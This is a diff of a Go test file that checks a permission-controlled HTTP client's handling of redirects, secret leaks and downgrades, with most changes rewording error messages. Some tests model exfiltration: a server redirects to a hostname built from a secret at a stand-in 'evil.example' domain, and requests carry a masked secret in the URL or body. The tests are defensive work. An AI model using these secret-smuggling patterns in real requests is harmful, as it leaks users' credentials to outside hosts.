@@ -63,7 +63,7 @@ func TestRedirects(t *testing.T) {
 	r, _, err := do("/far", nil)
 	wantsDenial(t, r, err, `http = ["GET `+far.URL+`"]`, "redirected from "+near.URL)
 	if hits.Load() != 0 {
-		t.Error("an ungranted host was reached")
+		t.Error("a host without a grant was reached")
 	}
 	if _, resp, err := do("/far", func(_ *run, q *Request) { q.Redirects = 0 }); err != nil || resp.Status != 302 || resp.Header.Get("Location") != far.URL+"/there" {
 		t.Errorf("not following: %v %v", resp, err)
@@ -90,12 +90,12 @@ func TestRedirects(t *testing.T) {
 		t.Errorf("POST became %v %v", last, err)
 	}
 	r, _, err = do("/leak", func(r *run, q *Request) { q.URL += "?" + r.mask })
-	wantsDenial(t, r, err, "taking a secret along")
+	wantsDenial(t, r, err, "the request has a secret in its URL or body")
 	r, _, err = do("/post", func(r *run, q *Request) { q.Method, q.Body = "POST", []byte(r.mask) })
-	wantsDenial(t, r, err, "taking a secret along")
+	wantsDenial(t, r, err, "the request has a secret in its URL or body")
 }
 
-func TestRedirectToAHostMadeOfASecret(t *testing.T) {
+func TestRedirectToHostMadeOfSecret(t *testing.T) {
 	const canary = "Canary0123456789"
 	s := server(t, func(w http.ResponseWriter, r *http.Request) {
 		http.Redirect(w, r, "http://"+r.Header.Get("X")+".evil.example/", http.StatusFound)
@@ -126,11 +126,11 @@ func TestDowngradeDropsSecrets(t *testing.T) {
 	resp.Body.Close()
 	q.URL += "/" + r.mask
 	_, err = r.HTTP(within(t, 5*time.Second), q)
-	wantsDenial(t, r, err, "taking a secret along")
+	wantsDenial(t, r, err, "the request has a secret in its URL or body")
 }
 
-// A server may redirect before it has read anything. What is still being sent
-// then must not change under the sender.
+// A server may redirect before it has read the whole request. What is still
+// being sent must not change under the sender.
 func TestRedirectWhileTheBodyIsBeingSent(t *testing.T) {
 	end := server(t, func(http.ResponseWriter, *http.Request) {})
 	hasty := listen(t, func(c net.Conn) {
